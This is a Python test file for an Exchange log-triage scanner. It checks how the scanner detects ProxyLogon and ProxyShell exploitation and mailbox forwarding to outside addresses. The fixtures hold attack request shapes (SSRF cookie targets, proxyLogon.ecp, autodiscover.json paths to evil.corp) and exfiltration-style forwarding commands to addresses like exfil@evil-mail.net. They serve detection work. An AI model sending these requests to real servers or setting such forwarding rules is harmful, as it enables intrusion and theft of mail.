"""Issue 13: success called where the lines prove it, stories without client addresses, mailbox
forwarding to an outside address. Real quoted lines (helsecert via ../shared, hamad-she) and
harmless synthetic reproductions of their shapes, built in each test."""

from __future__ import annotations

import json
import re
from pathlib import Path

from extriage.detections.linkkeys import keys_of_fields
from extriage.findings import Outcome, ScanResult, Verdict
from extriage.scan.context import ScanOptions
from extriage.scan.pipeline import run_scan
from extriage.scan.registry import default_stages

# Test-ProxyLogon's export columns (helsecert README; logs-and-detections.md §1a), status left out
EXPORT_COLS = ["DateTime", "RequestId", "ClientIpAddress", "UrlHost", "UrlStem", "RoutingHint", "UserAgent", "AnchorMailbox"]
TARGET = "ServerInfo~a]@servernavn.xxx.local:444"
CANARY = "8BeqxxxWYd1L8."
HP_DIR = "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp"
IIS_HEADER = ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-08-10 00:00:00\n"
              "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n")


def scan(root: Path) -> ScanResult:
    return run_scan(str(root), ScanOptions(jobs=1), stages=default_stages())


def write(root: Path, rel: str, text: str) -> None:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text, encoding="utf-8")


def row(values: list[str]) -> str:
    return ",".join('"' + v.replace('"', '""') + '"' for v in values)


def export(rows: list[list[str]], cols: list[str]) -> str:
    return "\n".join([row(cols), *(row(r) for r in rows)]) + "\n"


def chain_rows(ip: str = "130.255.189.21") -> list[list[str]]:
    """The helsecert chain's shape: autodiscover, proxyLogon.ecp, then DDIService calls with the canary."""
    def r(ts: str, ua: str, path: str) -> list[str]:
        return [ts, "xxx", ip, "mail.xxx.no", "/ecp/y.js", "X-BEResource-Cookie", ua, f"{TARGET}{path}"]
    return [
        r("2021-03-03T06:49:42.162Z", "ExchangeServicesClient/0.0.0.0", "/autodiscover/autodiscover.xml?#"),
        r("2021-03-03T06:49:46.210Z", "python-requests/2.25.1", "/ecp/proxyLogon.ecp?#"),
        r("2021-03-03T06:49:50.210Z", "python-requests/2.25.1",
          f"/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={CANARY}&schema=OABVirtualDirectory#"),
        r("2021-03-03T06:59:20.359Z", "python-requests/2.25.1",
          f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={CANARY}&schema=ResetOABVirtualDirectory#"),
    ]


def by_case(result: ScanResult, rule: str, case: str) -> list[object]:
    return [f for f in result.findings if f.rule_id == rule and f"case:{case}" in f.tags]


# -- ProxyLogon: the session canary proves the logon -------------------------------------------------


def test_canary_proves_proxylogon_without_status_column(tmp_path: Path) -> None:
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", export(chain_rows(), EXPORT_COLS))
    result = scan(tmp_path)
    logon = next(f for f in result.findings if f.rule_id == "PL-26855-SSRF" and "case:proxylogon-ecp" in f.tags)
    assert logon.outcome == Outcome.SUCCESS and "proven-by:ecp-session-canary" in logon.tags
    assert CANARY in logon.description and any(CANARY in e.raw for e in logon.evidence)
    # the calls that carry the canary prove the session, not their own success: they stay attempts
    ddi = next(f for f in result.findings if f.rule_id == "PL-26855-SSRF" and "case:ddi" in f.tags)
    assert ddi.outcome == Outcome.ATTEMPT
    auto = next(f for f in result.findings if "case:autodiscover" in f.tags)
    assert auto.outcome == Outcome.ATTEMPT
    assert result.verdict == Verdict.COMPROMISED
    stories = [s for s in result.stories if s.wave == "proxylogon"]
    assert len(stories) == 1 and stories[0].outcome == Outcome.SUCCESS


def test_test_proxylogon_export_in_a_plain_folder_is_read(tmp_path: Path) -> None:
    """Test-ProxyLogon's "<server>-Cve-2021-26855.csv" (Export-Csv, with Windows PowerShell's #TYPE
    line), handed over on its own: recognised by its header, its success proven by the canary."""
    text = "#TYPE Selected.System.Management.Automation.PSCustomObject\n" + export(chain_rows(), EXPORT_COLS)
    write(tmp_path, "EXCH01-Cve-2021-26855.csv", text)
    result = scan(tmp_path)
    assert result.verdict == Verdict.COMPROMISED
    assert any("case:proxylogon-ecp" in f.tags and f.outcome == Outcome.SUCCESS for f in result.findings)


def test_canary_alone_makes_a_session_finding_and_failures_stay(tmp_path: Path) -> None:
    """With a status column: a logon answered 500 stays an attempt; the canary of a later call still
    proves that some logon worked, as a finding of its own."""
    rows = chain_rows()[1:3]
    rows[0] = [*rows[0], "500"]
    rows[1] = [*rows[1], "200"]
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", export(rows, [*EXPORT_COLS, "HttpStatus"]))
    result = scan(tmp_path)
    logon = next(f for f in result.findings if "case:proxylogon-ecp" in f.tags)
    assert logon.outcome == Outcome.ATTEMPT and not any(t.startswith("proven-by:") for t in logon.tags)
    session = [f for f in result.findings if f.rule_id == "XS-PL-ECP-SESSION"]
    assert len(session) == 1 and session[0].outcome == Outcome.SUCCESS and session[0].evidence
    assert session[0].indicators.client_ips == ["130.255.189.21"]
    story = next(s for s in result.stories if s.wave == "proxylogon")
    assert any(session[0].id in st.finding_ids for st in story.steps)


def test_no_canary_no_proof(tmp_path: Path) -> None:
    rows = [[*r[:7], r[7].replace(f"msExchEcpCanary={CANARY}&", "")] for r in chain_rows()[:3]]
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", export(rows, EXPORT_COLS))
    result = scan(tmp_path)
    assert not [f for f in result.findings if f.outcome == Outcome.SUCCESS]
    assert result.verdict == Verdict.ATTEMPTED


def test_helsecert_real_lines_without_status(tmp_path: Path, shared: Path) -> None:
    """The real incident rows quoted in logs-and-detections.md §1a, with the status column removed
    as exports and quotes often have it; the elided middle of the third row is the second's."""
    text = (shared / "reference" / "logs-and-detections.md").read_text(encoding="utf-8")
    quoted = [ln.strip() for ln in text.splitlines() if ln.strip().startswith('"2021-03-03T06:')]
    assert len(quoted) >= 3
    full = [next(iter(__import__("csv").reader([q]))) for q in quoted[:2]]
    last = re.findall(r'"([^"]*)"', quoted[2])
    rows = [r[:-1] for r in full] + [[last[0], *full[1][1:7], last[1]]]
    assert "msExchEcpCanary=" in rows[2][7]
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", export(rows, EXPORT_COLS))
    result = scan(tmp_path)
    logon = next(f for f in result.findings if "case:proxylogon-ecp" in f.tags)
    assert logon.outcome == Outcome.SUCCESS and result.verdict == Verdict.COMPROMISED


# -- stories without a client address -----------------------------------------------------------------


def test_addressless_steps_make_one_story(tmp_path: Path) -> None:
    rows = [[r[0], r[1], r[3], r[4], r[5], r[6], r[7]] for r in chain_rows()]
    cols = [c for c in EXPORT_COLS if c != "ClientIpAddress"]
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", export(rows, cols))
    result = scan(tmp_path)
    stories = [s for s in result.stories if s.wave == "proxylogon"]
    assert len(stories) == 1, [s.title for s in stories]
    story = stories[0]
    assert not story.client_ips and "no client address" in story.title and "linked by" in story.title
    assert len(story.steps) >= 4 and story.first_seen is not None and story.outcome == Outcome.SUCCESS


def test_addressless_step_far_from_any_story_stays_apart(tmp_path: Path) -> None:
    """A step without an address, sharing no key and days away from the attack, is not borrowed."""
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", export(chain_rows(), EXPORT_COLS))
    far = [["2021-03-09T06:49:46.210Z", "xxx", "mail.xxx.no", "/ecp/y.js", "X-BEResource-Cookie", "python-requests/2.25.1",
            "ServerInfo~b]@other.xxx.local:444/ecp/proxyLogon.ecp?#"]]
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030906-1.LOG", export(far, [c for c in EXPORT_COLS if c != "ClientIpAddress"]))
    result = scan(tmp_path)
    stories = [s for s in result.stories if s.wave == "proxylogon"]
    assert len(stories) == 2 and sorted(bool(s.client_ips) for s in stories) == [False, True]


def test_two_attackers_without_address_stay_apart_when_their_targets_differ(tmp_path: Path) -> None:
    cols = [c for c in EXPORT_COLS if c != "ClientIpAddress"]
    a = [[r[0], r[1], r[3], r[4], r[5], r[6], r[7]] for r in chain_rows()[:2]]
    # another back-end target, three days later (more than the chain's 24 h apart)
    b = [[r[0].replace("2021-03-03", "2021-03-06"), r[1], r[3], r[4], r[5], r[6],
          r[7].replace("servernavn.xxx.local", "other.xxx.local")] for r in chain_rows()[:2]]
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", export(a + b, cols))
    result = scan(tmp_path)
    assert len([s for s in result.stories if s.wave == "proxylogon"]) == 2


def test_link_keys_of_real_shapes() -> None:
    keys = keys_of_fields({"AnchorMailbox": f"{TARGET}/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={CANARY}&schema=x#"})
    assert {"beresource:a]@servernavn.xxx.local:444", "target:servernavn.xxx.local", f"canary:{CANARY}"} <= keys
    # an ordinary back-end cookie names no SSRF target
    assert keys_of_fields({"BackEndCookie": "Server~exsrv.example.local~1942063431~2021-03-04T06:00:00"}) == set()
    ps = keys_of_fields({"c-uri": "/autodiscover/autodiscover.json?@evil.corp/powershell/?X-Rps-CAT=VgHvv71UB1dpbmRvd3NJZGVudGl0eQ"})
    assert "confusion:evil.corp" in ps and any(k.startswith("rpscat:") for k in ps)


# -- ProxyShell: the SSRF answered -------------------------------------------------------------------


def test_proxyshell_mapi_emsmdb_200_is_success(tmp_path: Path) -> None:
    lines = [
        "2021-08-10 15:20:50 10.10.4.102 POST /autodiscover/autodiscover.json "
        "@x/mapi/emsmdb/?=&Email=autodiscover/autodiscover.json%3F@x&CorrelationID=<empty>;&cafeReqId=1; "
        "443 - 203.0.113.7 python-requests/2.26.0 - 200 0 0 40",
        "2021-08-10 15:20:49 10.10.4.102 POST /autodiscover/autodiscover.json "
        "@x/autodiscover/autodiscover.xml?=&Email=autodiscover/autodiscover.json%3F@x&CorrelationID=<empty>;&cafeReqId=2; "
        "443 - 203.0.113.7 python-requests/2.26.0 - 200 0 0 40",
    ]
    write(tmp_path, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log", IIS_HEADER + "\n".join(sorted(lines)) + "\n")
    result = scan(tmp_path)
    mapi = next(f for f in result.findings if f.rule_id == "PS-34473-AUTODISCOVER" and "case:mapi" in f.tags)
    assert mapi.outcome == Outcome.SUCCESS and "emsmdb" in mapi.title
    xml = next(f for f in result.findings if "case:autodiscover-xml" in f.tags)
    assert xml.outcome == Outcome.SUCCESS and "LegacyDN" in xml.title
    assert not [f for f in result.findings if "case:powershell" in f.tags]  # only what the lines prove
    assert result.waves["proxyshell"] == Verdict.COMPROMISED


def test_proxyshell_steps_without_address_join_by_marker(tmp_path: Path) -> None:
    lines = [
        "2021-08-10 15:20:50 10.10.4.102 POST /autodiscover/autodiscover.json "
        "@evil.corp/mapi/emsmdb/?=&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - - python-requests/2.26.0 - 200 0 0 40",
        "2021-08-10 15:21:53 10.10.4.102 POST /autodiscover/autodiscover.json "
        "@evil.corp/powershell/?X-Rps-CAT=VgHvv71UB1dpbmRvd3NJZGVudGl0eQ&Email=autodiscover/autodiscover.json%3F@evil.corp "
        "443 - - python-requests/2.26.0 - 200 0 0 40",
    ]
    write(tmp_path, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log", IIS_HEADER + "\n".join(lines) + "\n")
    result = scan(tmp_path)
    stories = [s for s in result.stories if s.wave == "proxyshell"]
    assert len(stories) == 1 and len(stories[0].steps) == 2 and "evil.corp" in stories[0].title


# -- mailbox forwarding to an outside address -------------------------------------------------------

ECP_HEADER = ("#Software: Microsoft Exchange Server\n#Version: 15.01.2375.007\n#Log-type: ECP Server Log\n"
              "#Date: 2021-09-03T00:00:00.000Z\n#Fields: TimeStamp,ServerName,EventId,EventData\n")
ECP_DIR = "C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server"


def ecp(ts: str, cmd: str) -> str:
    bag = f"S:TIME=13;S:SID=S-1-5-21-1-2-3-1104;S:CMD={cmd};S:REQID=;S:URL=/ecp/x;S:REFERRER=;S:EX=;"
    return f'{ts},EXSRV,ECP.Request,"{bag}"'


def mgmt_event(ts: str, record: int, params: str) -> dict[str, object]:
    return {"@timestamp": ts, "message": f"Cmdlet suceeded. Cmdlet Set-Mailbox, parameters {params}.",
            "winlog": {"channel": "MSExchange Management", "provider_name": "MSExchange CmdletLogs", "event_id": 1,
                       "record_id": record, "computer_name": "EX01.corp.contoso.local",
                       "event_data": {"param1": "Set-Mailbox", "param2": params,
                                      "param3": "corp.contoso.local/Users/Administrator",
                                      "param6": "Remote-PowerShell-Unknown"}}}


def test_forwarding_outside_inside_and_cleared(tmp_path: Path) -> None:
    write(tmp_path, f"{ECP_DIR}/ECPServer20210903-1.LOG", ECP_HEADER + "\n".join([
        ecp("2021-09-03T10:02:33.966Z", "Set-Mailbox.Identity=''jane.doe@contoso.com''.ForwardingSmtpAddress="
            "''smtp:mailsync@protonmail.com''.DeliverToMailboxAndForward=''True''"),
        ecp("2021-09-03T10:03:33.966Z", "New-InboxRule.Mailbox=''bob@contoso.com''.Name=''x''.ForwardTo="
            "''alice@sub.contoso.com''.StopProcessingRules=True"),
        ecp("2021-09-03T10:04:33.966Z", "Set-Mailbox.Identity=''jane.doe@contoso.com''.ForwardingSmtpAddress=$null"),
        ecp("2021-09-03T10:05:33.966Z", "Get-InboxRule"),
    ]) + "\n")
    write(tmp_path, "events/mgmt.json", "\n".join(json.dumps(d) for d in [
        mgmt_event("2021-09-04T10:00:01.123Z", 78, '-Identity "ceo" -ForwardingSmtpAddress "smtp:exfil@evil-mail.net" '
                   '-DeliverToMailboxAndForward "True"'),
        mgmt_event("2021-09-04T10:00:05.123Z", 79, '-Identity "ceo" -ForwardingSmtpAddress $null'),
    ]) + "\n")
    result = scan(tmp_path)
    fwd = {(f.rule_id, f.outcome): f for f in result.findings if "forwarding" in f.tags}
    assert set(fwd) == {("MAIL-FWD-ECP", Outcome.ATTEMPT), ("MAIL-FWD-ECP", Outcome.INFO),
                        ("EVT-MGMT-MAIL-FORWARD", Outcome.ATTEMPT)}
    out = fwd[("MAIL-FWD-ECP", Outcome.ATTEMPT)]
    assert "outside address (mailsync@protonmail.com)" in out.title and "contoso.com" in out.description
    assert "forwarding:outside" in out.tags
    assert "inside the organisation" in fwd[("MAIL-FWD-ECP", Outcome.INFO)].title
    ev = fwd[("EVT-MGMT-MAIL-FORWARD", Outcome.ATTEMPT)]
    assert "exfil@evil-mail.net" in ev.title and ev.evidence and "How \"outside\" was decided" in ev.description


def test_forwarding_without_any_org_domain_is_low_confidence(tmp_path: Path) -> None:
    write(tmp_path, f"{ECP_DIR}/ECPServer20210903-1.LOG", ECP_HEADER + ecp(
        "2021-09-03T10:03:33.966Z", "New-InboxRule.Name=''x''.RedirectTo=''someone@example.net''") + "\n")
    result = scan(tmp_path)
    f = next(f for f in result.findings if f.rule_id == "MAIL-FWD-ECP")
    assert f.outcome == Outcome.ATTEMPT and f.confidence.name == "LOW" and "could not be decided" in f.title
    assert "forwarding:undecided" in f.tags


def test_forwarding_to_a_named_recipient_says_to_look_it_up(tmp_path: Path) -> None:
    write(tmp_path, f"{ECP_DIR}/ECPServer20210903-1.LOG", ECP_HEADER + ecp(
        "2021-09-03T10:03:33.966Z", "Set-Mailbox.Identity=''jane@contoso.com''.ForwardingAddress=''Sync Contact''") + "\n")
    result = scan(tmp_path)
    f = next(f for f in result.findings if f.rule_id == "MAIL-FWD-ECP")
    assert f.outcome == Outcome.ATTEMPT and "'Sync Contact'" in f.title and "Get-Recipient" in f.description


def test_benign_ecp_and_management_samples_raise_nothing(test_data: Path, tmp_path: Path) -> None:
    """The real CC0 ECP lines (Get-InboxRule with a canary) and the real MSExchange Management
    .evtx samples hold no forwarding and no proof."""
    text = (test_data / "log-samples-cc0" / "microsoft_exchange.md").read_text(encoding="utf-8")
    ecp_lines = [ln.strip().strip("`") for ln in text.splitlines() if ",ECP.Request," in ln]
    assert ecp_lines
    write(tmp_path, f"{ECP_DIR}/ECPServer20230111-1.LOG", ECP_HEADER + "\n".join(ecp_lines) + "\n")
    for evtx in sorted((test_data / "evtx-samples-cc0").glob("*.evtx")):
        (tmp_path / evtx.name).write_bytes(evtx.read_bytes())
    result = scan(tmp_path)
    assert any(r.path.endswith(".evtx") for r in result.files)
    assert not [f for f in result.findings if "forwarding" in f.tags or f.rule_id.startswith("XS-PL")]


def test_extract_is_validated_and_never_a_condition() -> None:
    from extriage.detections.logrules import RuleError, load_rules_from

    base = ("rules:\n  - id: T-1\n    title: t\n    family: httpproxy\n    wave: other\n    prefilter: [x]\n"
            "    match: {UrlStem|contains: x}\n")
    rules = load_rules_from([("ok.yml", base + "    extract: {Host: [{UrlHost: '^([^.]+)'}]}\n")])
    fields = {"UrlStem": "/x", "UrlHost": "mail.example.org"}
    assert rules.rules[0].classify(fields) is not None and fields["Host"] == "mail"
    assert rules.rules[0].classify({"UrlStem": "/x"}) is not None  # nothing to extract: still a match
    for bad in ("    extract: {Host: [{UrlHost: 'no-group'}]}\n", "    extract: [x]\n",
                "    extract: {Host: [{UrlHost: '(', Other: 'x'}]}\n"):
        try:
            load_rules_from([("bad.yml", base + bad)])
        except RuleError as exc:
            assert "bad.yml: rule T-1: extract" in str(exc)
        else:
            raise AssertionError(bad)


def test_headerless_httpproxy_and_ecp_rows_are_read(tmp_path: Path) -> None:
    """Rows copied without their header (Q&A threads, partial collections): the standard 74-column
    HttpProxy layout and the 4-column ECP layout are mapped; the file stays listed as partly read."""
    from extriage.formats.records import HTTPPROXY_DEFAULT

    def hp(**kw: str) -> str:
        return row([kw.get(name, "") for name in HTTPPROXY_DEFAULT])

    rows = [hp(DateTime="2021-03-03T06:49:46.210Z", Protocol="Ecp", UrlStem="/ecp/y.js", ClientIpAddress="130.255.189.21",
               AnchorMailbox=f"{TARGET}/ecp/proxyLogon.ecp?#", HttpStatus="241", Method="POST"),
            "2021-03-03T06:50:00.000Z,x,too,short"]
    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", "\n".join(rows) + "\n")
    write(tmp_path, f"{ECP_DIR}/ECPServer20210903-1.LOG", ecp(
        "2021-09-03T10:03:33.966Z", "New-InboxRule.Mailbox=''bob@contoso.com''.ForwardTo=''x@evil.example''") + "\n")
    result = scan(tmp_path)
    assert any("case:proxylogon-ecp" in f.tags and f.outcome == Outcome.SUCCESS for f in result.findings)
    assert any(f.rule_id == "MAIL-FWD-ECP" and "forwarding:outside" in f.tags for f in result.findings)
    notes = [s.reason for s in result.coverage.skipped if "without a #Fields header" in s.reason]
    assert notes and all("default column layout" in n for n in notes)
